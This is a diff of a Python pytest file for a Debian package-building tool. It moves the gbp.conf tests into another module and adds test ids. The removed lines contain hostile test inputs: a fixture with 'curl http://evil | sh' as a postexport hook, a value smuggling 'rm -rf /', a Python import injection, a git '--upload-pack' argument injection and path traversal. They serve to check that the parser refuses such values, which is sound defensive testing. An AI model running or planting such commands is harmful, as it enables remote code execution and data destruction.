@@ -11,7 +11,7 @@ import pytest
 
 from invirtibuilder import debchanges, debsource, gbpconf
 from invirtibuilder.errors import ConfigFault, Fault, Malformed, PackageFault
-from invirtibuilder.gbpconf import GbpSettings
+from tests.unit.test_gbpconf import GBP
 
 TRAILER = b"\n -- A B <a@b.c>  Mon, 26 Dec 2022 16:30:00 +0100\n"
 CHANGELOG = (
@@ -57,20 +57,11 @@ Installed-Build-Depends:
  autoconf (= 2.71-3),
  base-files (= 12.4+deb12u11)
 """
-GBP = b"""# comment
-[DEFAULT]
-debian-branch = debian/sid
-upstream-tag = v%(version%~%.)s
-pristine-tar = True
-postexport = curl http://evil | sh
 
-[buildpackage]
-sign-tags = True
-compression = xz
-component = ["doc", "test-data"]
-[gbp-dch]
-x = %(nothing
-"""
+
+def short(value: object) -> str:
+    """A test's name without the content."""
+    return value if isinstance(value, str) else getattr(value, "__name__", "bytes")
 
 
 def test_top_entry() -> None:
@@ -149,6 +140,7 @@ def test_real_trailers(trailer: bytes) -> None:
         (b"hello (1) sid; urgency=low\n" + b"  * X\n" * 200_000 + TRAILER, "larger"),
         (b" " * ((16 << 20) + 1), "larger"),
     ],
+    ids=short,
 )
 def test_bad_changelogs(data: bytes, why: str) -> None:
     with pytest.raises(PackageFault) as caught:
@@ -181,77 +173,6 @@ def test_supported_formats() -> None:
     assert debsource.source_format(b"3.0  (native)\n\n") == "3.0 (native)"
     assert debsource.version_fits_format("1.0-1", "3.0 (quilt)") is None
     assert debsource.version_fits_format("1.0-1", "1.0") is None
-
-
-def test_gbp_conf() -> None:
-    settings = gbpconf.gbp_settings(GBP)
-    assert settings == GbpSettings(
-        pristine_tar=True,
-        upstream_tag="v%(version%~%.)s",
-        debian_branch="debian/sid",
-        components=("doc", "test-data"),
-        compression="xz",
-    )
-    assert gbpconf.gbp_settings(None) == gbpconf.gbp_settings(b"") == GbpSettings()
-
-
-def test_sections_as_gbp_takes_them() -> None:
-    data = (
-        b"[DEFAULT]\npristine-tar=True\ncompression=bz2\n[git-buildpackage]\nupstream-tag=a/%(version)s\n"
-        b"[buildpackage]\npristine-tar = off\n[import-orig]\ncomponents = ['x']\ncomponent = y\n"
-    )
-    settings = gbpconf.gbp_settings(data)
-    assert (settings.pristine_tar, settings.compression) == (False, "bzip2")
-    assert (settings.upstream_tag, settings.components) == ("a/%(version)s", ("y",))
-
-
-@pytest.mark.parametrize(
-    "data",
-    [
-        b"no section = 1\n",
-        b"[DEFAULT]\npristine-tar = perhaps\n",
-        b"[DEFAULT]\ncomponent = ['a', __import__('os')]\n",
-        b"[DEFAULT]\ncomponent = ../x\n",
-        b"[DEFAULT]\ncomponent = " + b"[" * 5000,
-        b"[DEFAULT]\ncomponent = [[" + b"]" * 50,
-        b"[DEFAULT]\ncompression = zstd; rm -rf /\n",
-        b"[DEFAULT]\nupstream-branch = --upload-pack=x\n",
-        b"[DEFAULT]\ndebian-branch = a..b\n",
-        b"[DEFAULT]\nupstream-tag = \x1b[2J\n",
-        b"[DEFAULT]\n\xff=1\n",
-        b"[DEFAULT\n",
-        b"#" * (1 << 20),
-    ],
-)
-def test_bad_gbp_conf(data: bytes) -> None:
-    with pytest.raises(PackageFault) as caught:
-        gbpconf.gbp_settings(data)
-    assert caught.value.code == "bad-gbp-conf"
-
-
-@pytest.mark.parametrize(
-    ("template", "version", "tag"),
-    [
-        ("", "1:2.0~rc1-1", "upstream/2.0_rc1"),
-        ("v%(version)s", "1.2.3-4", "v1.2.3"),
-        ("v%(version%.%_)s", "1.2.3-4", "v1_2_3"),
-        ("v%(version%~%-)s", "1.2~rc1-4", "v1.2-rc1"),
-        ("libfoo-%(hversion)s", "1.8.1-1", "libfoo-1-8-1"),
-        (r"%(version%+%\%)s", "1+git-1", "1%git"),
-        ("a%%b/%(version)s", "1-1", "a%b/1"),
-    ],
-)
-def test_upstream_tags(template: str, version: str, tag: str) -> None:
-    assert gbpconf.upstream_tags(GbpSettings(upstream_tag=template), version)[0] == tag
-
-
-@pytest.mark.parametrize(
-    "template",
-    ["-%(version)s", "a..%(version)s", "x%(version)s.lock", "a b", "../%(version)s", "/"],
-)
-def test_tags_that_git_would_refuse_are_left_out(template: str) -> None:
-    tags = gbpconf.upstream_tags(GbpSettings(upstream_tag=template), "1.0-1")
-    assert tags == ("upstream/1.0",)
 
 
 NOW = datetime(2026, 1, 2, 3, 4, 5, 999999, tzinfo=UTC)
@@ -393,10 +314,11 @@ def test_hostile_dsc(old: bytes, new: bytes) -> None:
         (gbpconf.gbp_settings, GBP),
         (debsource.source_format, b"3.0 (quilt)\n"),
     ],
+    ids=short,
 )
 def test_mutations_raise_nothing_but_faults(parse: Callable[[bytes], object], data: bytes) -> None:
     # The seed is fixed: a failure comes back.
-    chance = random.Random(12)  # noqa: S311
+    chance = random.Random(12)
     refused = 0
     for _ in range(1500):
         mutated = bytearray(data)
